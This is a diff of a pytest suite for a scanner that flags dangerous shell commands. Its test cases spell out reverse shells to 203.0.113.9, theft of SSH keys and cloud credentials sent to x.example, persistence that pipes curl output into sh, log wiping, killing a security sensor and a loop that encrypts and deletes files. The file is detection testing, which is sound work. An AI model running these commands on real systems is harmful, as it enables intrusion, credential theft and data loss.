@@ -7,7 +7,8 @@ import os
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from metier.scan.analyzers import shell
+from metier.scan.languages.shell import scan_shell
+from metier.scan.model import MAX_HITS_PER_RULE
 from metier.scan.rules.shell import RULES
 
 _FOLDER = os.path.join(os.path.dirname(__file__), "..", "..", "rules")
@@ -16,7 +17,7 @@ _SERIOUS = {rule.id for rule in RULES if rule.severity in ("high", "critical")}
 
 
 def rules(code: str) -> set[str]:
-    return {hit.rule for hit in shell.find(code)}
+    return {hit.rule for hit in scan_shell.find(code)}
 
 
 def read(rule: str, name: str) -> str:
@@ -87,8 +88,8 @@ def test_a_download_into_an_interpreter_is_found_however_it_is_written(code: str
         "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
         "socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444",
         "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
-        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
-        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(44,inet_aton(\"h\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
+        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
+        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(44,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");\'',
     ],
 )
 def test_reverse_shells_are_found(code: str) -> None:
@@ -99,7 +100,10 @@ def test_reverse_shells_are_found(code: str) -> None:
     ("code", "rule"),
     [
         ('K=$(cat ~/.ssh/id_rsa); curl -d "k=$K" https://x.example', "SC230"),
-        ("tar czf /tmp/a.tgz ~/.aws/credentials && curl -F f=@/tmp/a.tgz https://x.example", "SC230"),
+        (
+            "tar czf /tmp/a.tgz ~/.aws/credentials && curl -F f=@/tmp/a.tgz https://x.example",
+            "SC230",
+        ),
         ("cat ~/.ssh/id_rsa | base64 | curl -d @- https://x.example", "SC230"),
         ("curl -T ~/.netrc https://x.example", "SC230"),
         ("scp ~/.ssh/id_rsa me@x.example:", "SC230"),
@@ -113,7 +117,10 @@ def test_reverse_shells_are_found(code: str) -> None:
         ("nslookup $(cat /etc/hostname | xxd -p).x.example.net", "SC234"),
         ("cat /etc/shad[o]w", "SC223"),
         ("echo '* * * * * curl -s https://x.example/u | sh' | crontab -", "SC243"),
-        ("cat > ~/.config/systemd/user/u.service <<E\n[Service]\nExecStart=/bin/sh -c 'curl -s https://x.example | sh'\nE", "SC243"),
+        (
+            "cat > ~/.config/systemd/user/u.service <<E\n[Service]\nExecStart=/bin/sh -c 'curl -s https://x.example | sh'\nE",
+            "SC243",
+        ),
         ("wget https://x.example/a; chmod +x a; ./a", "SC203"),
         ("curl -o /tmp/.c/a https://x.example/a\nbash /tmp/.c/a &", "SC213"),
         ('eval "$(echo cm0gLXJmIH4= | base64 -d)"', "SC206"),
@@ -127,7 +134,10 @@ def test_reverse_shells_are_found(code: str) -> None:
         ("cat /dev/null > /var/log/auth.log", "SC264"),
         ("unset HISTFILE", "SC272"),
         ("pkill -f falcon-sensor", "SC270"),
-        ("for f in ~/docs/*; do openssl enc -aes-256-cbc -in $f -out $f.x -pass pass:k; rm $f; done", "SC265"),
+        (
+            "for f in ~/docs/*; do openssl enc -aes-256-cbc -in $f -out $f.x -pass pass:k; rm $f; done",
+            "SC265",
+        ),
         ("curl -s https://bit.ly/abc -o x", "SC204"),
         ("dig +short TXT c.example.net | sh", "SC216"),
     ],
@@ -150,7 +160,7 @@ def test_hidden_and_indirect_forms_are_found(code: str, rule: str) -> None:
         "find . -name '*.pyc' -delete",
         "psql -c \"select 1\" | grep 1 || echo 'not up'",
         'for f in *.png; do convert "$f" "${f%.png}.jpg"; done',
-        "curl -X POST https://api.example.com/items -d '{\"name\": \"x\"}'",
+        'curl -X POST https://api.example.com/items -d \'{"name": "x"}\'',
         'echo "Never run: curl https://x.example | sh"',
         "grep -rn 'password' src/ | head",
         "tar xzf release.tar.gz && ./configure && make install",
@@ -164,33 +174,58 @@ def test_everyday_commands_are_nothing_serious(code: str) -> None:
 def test_hits_are_sorted_bounded_and_inside_the_text() -> None:
     code = "curl http://45.77.12.9/a | sh; rm -rf ~\n" * 300
 
-    found = shell.find(code)
+    found = scan_shell.find(code)
 
     assert found == sorted(found, key=lambda hit: hit.start)
-    assert len(found) <= shell.MOST
+    assert len(found) <= 10 * MAX_HITS_PER_RULE
     assert all(0 <= hit.start < hit.end <= len(code) for hit in found)
 
 
 def test_a_decoded_command_is_shown_as_evidence() -> None:
-    hit = next(hit for hit in shell.find("echo cm0gLXJmIH4= | base64 -d | sh") if hit.rule == "SC206")
+    hit = next(
+        hit for hit in scan_shell.find("echo cm0gLXJmIH4= | base64 -d | sh") if hit.rule == "SC206"
+    )
 
     assert "rm -rf ~" == hit.evidence
 
 
-def test_code_of_other_languages_is_handed_on() -> None:
-    code = "python3 -c 'import os' && node -e \"a()\"\nruby - <<E\nputs 1\nE\n"
-
-    found = shell.inline(code)
-
-    assert [("python", "import os"), ("javascript", "a()"), ("ruby", "puts 1\n")] == [(one.language, one.text) for one in found]
-    assert all(code[one.start :].startswith(one.text) for one in found)
-
-
-_PIECES = st.sampled_from(["curl ", "| sh", "$(", ")", "`", "'", '"', "<<E\n", "E\n", "rm -rf ", "~", "\\", "$A", "A=", "bash -c ", "eval ", "nc -e ", " > ", "/dev/tcp/", "\n", "&", "{", "}", ",", "\x00", "\ud800", "base64 -d", "~/.ssh/id_rsa", "-d @", "http://"])
+_PIECES = st.sampled_from(
+    [
+        "curl ",
+        "| sh",
+        "$(",
+        ")",
+        "`",
+        "'",
+        '"',
+        "<<E\n",
+        "E\n",
+        "rm -rf ",
+        "~",
+        "\\",
+        "$A",
+        "A=",
+        "bash -c ",
+        "eval ",
+        "nc -e ",
+        " > ",
+        "/dev/tcp/",
+        "\n",
+        "&",
+        "{",
+        "}",
+        ",",
+        "\x00",
+        "\ud800",
+        "base64 -d",
+        "~/.ssh/id_rsa",
+        "-d @",
+        "http://",
+    ]
+)
 
 
 @settings(max_examples=200, deadline=None)
 @given(st.lists(_PIECES, max_size=60).map("".join))
 def test_no_text_makes_it_raise(code: str) -> None:
-    assert all(0 <= hit.start <= hit.end <= len(code) for hit in shell.find(code))
-    shell.inline(code)
+    assert all(0 <= hit.start <= hit.end <= len(code) for hit in scan_shell.find(code))
